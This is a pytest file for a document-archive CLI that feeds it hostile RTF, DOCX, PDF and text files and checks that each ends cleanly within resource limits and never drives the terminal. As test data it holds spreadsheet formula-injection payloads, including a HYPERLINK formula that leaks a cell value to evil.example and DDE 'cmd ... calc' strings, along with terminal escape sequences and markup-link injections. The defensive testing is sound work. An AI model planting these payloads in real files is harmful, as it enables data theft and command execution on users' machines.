"""Hostile files on the reading side (issue 14): each is built here from bytes or a small
generator, ingested beside a good file by the real CLI in a subprocess under a memory cap
and a time limit, and must end with one clear line and its documented exit code (or be
read correctly), while the good file is stored.

The fence itself (fence.py) is tested with stand-in tasks: a file that hangs, one that
kills its worker, one that allocates past the limit; each fails alone.
"""

from __future__ import annotations

import json
import os
import re
import resource
import subprocess
import sys
import time
import zlib
from pathlib import Path

import pytest
import yaml

from resarchive.errors import ResourceLimitError
from resarchive.fence import Fence, Limits

from . import sources
from .test_read_docx import NUMBERING, docx_with, numbered, p

MEMORY_CAP = 2 * 1024**3  # the whole CLI process tree's address space, each process
TIME_LIMIT = 60


# ------------------------------------------------------------ generators


def rtf_surrogate() -> bytes:
    return (
        b"{\\rtf1\\ansi\\ansicpg1251\\deff0{\\fonttbl{\\f0\\fcharset204 Times;}}\n"
        b"\\'d0\\'e5\\'e7\\'ee\\'eb\\'fe\\'f6\\'e8\\'ff\\par \\u-10240?\\u55296? \\par "
        b"\\'d0\\'e5\\'e7\\'ee\\'eb\\'fe\\'f6\\'e8\\'ff\\par }"
    )


def rtf_font_table(entries: int = 20_000) -> bytes:
    """An unclosed font table: striprtf's font regex was quadratic in it."""
    return b"{\\rtf1\\ansi{\\fonttbl " + b"\\f1 " * entries + b"\n\\'d0\\'e5\\par }"


def docx_style_cycle() -> bytes:
    styles = '<w:style w:type="paragraph" w:styleId="Loop"><w:basedOn w:val="Loop"/></w:style>'
    body = '<w:p><w:pPr><w:pStyle w:val="Loop"/></w:pPr><w:r><w:t>РЕЗОЛЮЦИЯ</w:t></w:r></w:p>'
    return docx_with(
        body, styles=styles, numbering=NUMBERING.format(ilvl=0, start=1, fmt="decimal")
    )


def docx_grid_span() -> bytes:
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="100000000"/></w:tcPr>' + p("x") + "</w:tc>"
    return docx_with(p("Резолюция") + f"<w:tbl><w:tr>{cell}</w:tr></w:tbl>")


def docx_numbering(ilvl: str, start: str) -> bytes:
    numbering = NUMBERING.format(ilvl=ilvl, start=start, fmt="decimal")
    return docx_with(numbered("Рекомендовать библиотекам", ilvl), numbering=numbering)


def docx_many_paragraphs(n: int = 330_000) -> bytes:
    """A small zip that unpacks to a body of 330 000 paragraphs (built as raw parts)."""
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    body = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * n
    return deflated(
        {
            "[Content_Types].xml": (
                b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                b'relationships+xml"/><Override PartName="/word/document.xml" ContentType="'
                b'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main'
                b'+xml"/></Types>'
            ),
            "_rels/.rels": (
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.'
                b'org/officeDocument/2006/relationships/officeDocument" Target="word/'
                b'document.xml"/></Relationships>'
            ),
            "word/document.xml": f"<w:document {w}><w:body>".encode() + body
            + b"</w:body></w:document>",
        }
    )  # fmt: skip


def deflated(members: dict[str, bytes]) -> bytes:
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buffer.getvalue()


def raw_pdf(content: bytes) -> bytes:
    """A one-page PDF around a content stream (Helvetica), xref offsets computed."""
    stream = zlib.compress(content)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream
        + b"\nendstream",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] "
        b"/Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>",
    ]  # fmt: skip
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def pdf_huge_stream(chars: int = 20_000_000) -> bytes:
    line = b"(Rekomendovat bibliotekam razvivat onlain servisy dlya chitatelej) Tj T* "
    return raw_pdf(b"BT /F1 1 Tf 1 TL 0 5000 Td " + line * (chars // len(line)) + b"ET")


def pdf_control_characters() -> bytes:
    return raw_pdf(
        b"BT /F1 12 Tf 10 700 Td (REZOLYUCIYA \x1b]0;PWNED\x07\x1b[2J seminara) Tj 0 -20 Td "
        b"(Rekomendovat bibliotekam razvivat servisy. Rekomendovat bibliotekam.) Tj ET"
    )


def txt_cut_utf8() -> bytes:
    return (sources.write_txt_bytes() + "Ещё".encode())[:-1]


def txt_pdf_mention() -> bytes:
    return "Резолюция семинара о форматах %PDF-1.7 и DOCX\n\n".encode() + sources.write_txt_bytes()


def txt_with(recommendations: list[str], title: str = sources.TITLE) -> bytes:
    """The test resolution with these recommendations (numbered) and title."""
    numbered = [f"{i}. {text}" for i, text in enumerate(recommendations, 1)]
    return ("\n\n".join([title, *sources.INTRO, *numbered]) + "\n").encode("utf-8")


def txt_recs(n: int = 1002) -> bytes:
    return txt_with([f"Рекомендовать библиотекам развивать сервис номер {i}." for i in range(n)])


def txt_formulas() -> bytes:
    return txt_with(
        [f'=HYPERLINK("http://evil.example/?x="&A1,"{sources.RECOMMENDATIONS[0]}")',
         "+cmd|' /C calc'!A0 " + sources.RECOMMENDATIONS[1], "-2+3+cmd|' /C calc'!A0",
         "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 " + sources.RECOMMENDATIONS[2]]
    )  # fmt: skip


ESCAPES = "\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b[31m"
HYPERLINK = "\x1b]8;;http://evil.example/\x1b\\клик\x1b]8;;\x1b\\"


def txt_escapes() -> bytes:
    return txt_with(
        [f"Органам власти {HYPERLINK} рекомендовать поддержать библиотеки.",
         *sources.RECOMMENDATIONS[1:]],
        title=f"РЕЗОЛЮЦИЯ {ESCAPES} семинара",
    )  # fmt: skip


MARKUP = "[link=https://evil.example/]онлайн[/link]"


def txt_markup() -> bytes:
    return txt_with(
        [f"Библиотекам региона [/bold] развивать {MARKUP}-сервисы.",
         *sources.RECOMMENDATIONS[1:]],
        title=f"РЕЗОЛЮЦИЯ семинара «Библиотека {MARKUP} [blink]»",
    )  # fmt: skip


# name, bytes, exit code, what the one error line says (None: read, the record stored)
HOSTILE = [
    ("surrogate.rtf", rtf_surrogate, 0, None),
    ("stylecycle.docx", docx_style_cycle, 0, None),
    ("gridspan.docx", docx_grid_span, 0, None),
    ("numstart.docx", lambda: docx_numbering("0", "1000000000"), 0, None),
    ("numbig.docx", lambda: docx_numbering("100000000", "1"), 0, None),
    ("numbad.docx", lambda: docx_numbering("0", "abc"), 0, None),
    ("many_p_10m.docx", docx_many_paragraphs, 8, "330,000 paragraphs, over the 50,000 limit"),
    ("fonttbl_20000.rtf", rtf_font_table, 13, "the RTF font table is never closed"),
    ("hugestream_20000000.pdf", pdf_huge_stream, 16, "the process reading it was killed by"),
    ("trunc_utf8.txt", txt_cut_utf8, 0, None),
    ("pdf_mention.txt", txt_pdf_mention, 0, None),
    ("ctrl.pdf", pdf_control_characters, 0, None),
    ("recs1002.txt", txt_recs, 0, None),
    ("formula.txt", txt_formulas, 0, None),
    ("escapes.txt", txt_escapes, 0, None),
    ("markup.txt", txt_markup, 0, None),
]


def _capped() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_CAP, MEMORY_CAP))


@pytest.mark.parametrize(
    ("name", "make", "code", "message"), HOSTILE, ids=[case[0] for case in HOSTILE]
)
def test_a_hostile_file_ends_in_bounds_and_its_neighbour_is_stored(
    tmp_path: Path, name: str, make, code: int, message: str | None
) -> None:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    hostile = inbox / name
    hostile.write_bytes(make())
    good = sources.write_txt(inbox / "good.txt")
    archive = tmp_path / "archive"
    started = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-m", "resarchive", "--archive", str(archive), "ingest",
         "--jobs", "1", str(hostile), str(good)],
        capture_output=True, text=True, timeout=TIME_LIMIT, preexec_fn=_capped,
        env={**os.environ, "COLUMNS": "200"},
    )  # fmt: skip
    assert time.monotonic() - started < TIME_LIMIT
    assert done.returncode == code, done.stderr
    assert "Traceback" not in done.stderr
    assert "\x1b" not in done.stdout + done.stderr  # shown escaped, never sent
    errors = [line for line in done.stderr.splitlines() if line.startswith("error:")]
    if message is None:
        assert errors == []
        assert (archive / "raw" / name).read_bytes() == hostile.read_bytes()
    else:
        assert len(errors) == 1 and errors[0].startswith(f"error: {hostile}: "), done.stderr
        assert message in errors[0]
        assert not (archive / "raw" / name).exists()
    assert (archive / "raw" / "good.txt").read_bytes() == good.read_bytes()
    records = [yaml.safe_load(p.read_text("utf-8")) for p in (archive / "structured").iterdir()]
    assert "good.txt" in [r["source"]["file"] for r in records]


def test_the_surrogate_and_the_cut_file_are_read_as_well_as_they_can_be(tmp_path: Path) -> None:
    from resarchive.read import read_source

    rtf = tmp_path / "s.rtf"
    rtf.write_bytes(rtf_surrogate())
    assert read_source(rtf).text == "Резолюция\n\n\ufffd\ufffd\n\nРезолюция\n"
    cut = tmp_path / "cut.txt"
    cut.write_bytes(txt_cut_utf8())
    doc = read_source(cut)
    assert doc.encoding == "utf-8" and doc.text.endswith("Ещ")
    assert doc.warnings == (
        "the file ends in the middle of a UTF-8 character (cut short?): its last 1 byte(s) "
        "were left out",
    )
    mention = tmp_path / "m.txt"
    mention.write_bytes(txt_pdf_mention())
    assert read_source(mention).format == "txt"
    ctrl = tmp_path / "ctrl.pdf"
    ctrl.write_bytes(pdf_control_characters())
    assert "\x1b" not in read_source(ctrl).text and "\x07" not in read_source(ctrl).text


def test_1002_numbered_recommendations_stay_1002(tmp_path: Path) -> None:
    from resarchive.extract import extract_record
    from resarchive.record.models import Source

    text = txt_recs().decode("utf-8")
    record = extract_record(text, Source(file="r.txt", sha256="0" * 64, encoding="utf-8"))
    assert [r.number for r in record.recommendations] == list(range(1, 1003))
    assert (
        record.recommendations[-1].text == "Рекомендовать библиотекам развивать сервис номер 1001."
    )


def cli(archive: Path, *args: str, tty: bool = False) -> tuple[int, str, str]:
    """The CLI in a subprocess; with `tty`, its stdout is a terminal (a pty)."""
    command = [sys.executable, "-m", "resarchive", "--archive", str(archive), *args]
    env = {**os.environ, "COLUMNS": "300", "LANG": "C.UTF-8", "LANGUAGE": "", "LC_ALL": ""}
    if not tty:
        done = subprocess.run(command, capture_output=True, text=True, timeout=TIME_LIMIT, env=env)
        return done.returncode, done.stdout, done.stderr
    import pty

    leader, follower = pty.openpty()
    proc = subprocess.Popen(command, stdout=follower, stderr=subprocess.PIPE, env=env)
    os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # the terminal closed: the command is done
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(leader)
    stderr = proc.stderr.read().decode() if proc.stderr else ""
    proc.wait(timeout=TIME_LIMIT)
    return proc.returncode, b"".join(chunks).decode("utf-8", "replace"), stderr


@pytest.fixture(scope="module")
def shown(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An archive holding the escapes and the markup resolutions."""
    folder = tmp_path_factory.mktemp("shown")
    archive = folder / "archive"
    for name, make in (("escapes.txt", txt_escapes), ("markup.txt", txt_markup)):
        (folder / name).write_bytes(make())
    code, _, stderr = cli(archive, "ingest", "--jobs", "1", str(folder / "escapes.txt"),
                          str(folder / "markup.txt"))  # fmt: skip
    assert code == 0, stderr
    return archive


def _ids(archive: Path) -> dict[str, str]:
    found = json.loads(cli(archive, "query", "--format", "json")[1])
    return {"escapes" if "PWNED" in r["document"]["title"] else "markup": r["id"] for r in found}


@pytest.mark.parametrize(
    "args",
    [["query"], ["query", "--rows", "recommendations"], ["stats"], ["validate"], ["show", "E"],
     ["show", "M"], ["query", "--format", "json"], ["query", "--format", "csv"], ["text", "E"]],
    ids=["table", "recommendations", "stats", "validate", "show-escapes", "show-markup",
         "json-tty", "csv-tty", "text-tty"],
)  # fmt: skip
def test_documents_never_drive_the_terminal(shown: Path, args: list[str]) -> None:
    ids = _ids(shown)
    args = [{"E": ids["escapes"], "M": ids["markup"]}.get(a, a) for a in args]
    code, stdout, stderr = cli(shown, *args, tty=True)
    assert code == 0, stderr
    # rich styles its own tables on a terminal; the documents' sequences never get through
    for sequence in ("\x1b]", "\x07", "\x1b[2J"):
        assert sequence not in stdout and sequence not in stderr
    # ... they are shown escaped (`show` prints YAML, whose own escapes are \e and \a);
    # rich's styles taken out, a wrapped cell joined
    plain = re.sub(r"\x1b\[[0-9;]*m|\s*│\s*|\r?\n", "", stdout)
    if args == ["text", ids["escapes"]]:
        assert "\\x1b]0;PWNED-TITLE\\x07\\x1b[2J" in plain
    if args == ["show", ids["escapes"]]:
        assert "\\e]0;PWNED-TITLE\\a\\e[2J" in plain
    if args == ["query", "--rows", "recommendations"]:
        assert "\\x1b]8;;http://evil.example/\\x1b\\клик" in plain
    # and markup in documents is text: no link, no crash on a closing tag never opened
    if args in (["query", "--rows", "recommendations"], ["show", ids["markup"]]):
        assert "[/bold]" in stdout and "[link=https://evil.example/]" in stdout


def test_piped_text_stays_exact(shown: Path) -> None:
    """In a pipe, `text` prints the very text the spans point into, escapes and all."""
    code, stdout, _ = cli(shown, "text", _ids(shown)["escapes"])
    assert code == 0 and ESCAPES in stdout and HYPERLINK in stdout


# ------------------------------------------------------------ the fence itself


def behave(path: Path, how: str) -> str:
    """A stand-in for reading one file (runs in a fenced worker)."""
    if how == "hang":
        time.sleep(3600)
    elif how == "die":
        os.kill(os.getpid(), 9)
    elif how == "hog":
        blocks = []
        while True:
            blocks.append(bytearray(64 * 1024**2))
    elif how == "abort":
        os.abort()
    return f"read {path.name}"


@pytest.mark.parametrize("jobs", [1, 2])
def test_the_fence_fails_only_the_file_that_went_over(jobs: int) -> None:
    hows = ["ok", "hang", "ok", "die", "ok", "hog", "abort", "ok"]
    work = [(Path(f"f{i}.txt"), (Path(f"f{i}.txt"), how)) for i, how in enumerate(hows)]
    started = time.monotonic()
    with Fence(jobs, behave, None, Limits(timeout=2, memory=512 * 1024**2)) as fence:
        outcomes = list(fence.map(work, window=4))
    assert time.monotonic() - started < 30
    assert [o for o in outcomes if isinstance(o, str)] == [
        f"read f{i}.txt" for i, how in enumerate(hows) if how == "ok"
    ]
    failed = {hows[i]: o for i, o in enumerate(outcomes) if not isinstance(o, str)}
    assert all(isinstance(o, ResourceLimitError) for o in failed.values())
    assert str(failed["hang"]) == "reading and extracting it took over 2 s: stopped (--timeout)"
    assert failed["hang"].path == "f1.txt" and failed["hang"].exit_code == 16
    assert "killed by SIGKILL" in str(failed["die"])
    assert str(failed["hog"]) == "reading it needed more than the 512 MB memory limit: stopped"
    assert "killed by SIGABRT" in str(failed["abort"])


def log_start(path: Path, log: Path) -> str:
    """A stand-in task that notes which file it started on."""
    with log.open("a") as fh:
        fh.write(f"{path.name}\n")
    return path.name


def test_a_worker_has_its_next_file_while_the_caller_is_busy(tmp_path: Path) -> None:
    """While the caller still holds the first outcome (storing a record, say), the worker
    has already started on the file after next: it never waits for the caller."""
    log = tmp_path / "started.log"
    work = [(Path(f"f{i}.txt"), (Path(f"f{i}.txt"), log)) for i in range(4)]
    with Fence(1, log_start, None) as fence:
        outcomes = fence.map(work, window=4)
        assert next(outcomes) == "f0.txt"
        deadline = time.monotonic() + 20  # a bound for a loaded machine, not a timing
        while "f2.txt" not in log.read_text() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert log.read_text().split() == ["f0.txt", "f1.txt", "f2.txt"]
        assert list(outcomes) == ["f1.txt", "f2.txt", "f3.txt"]
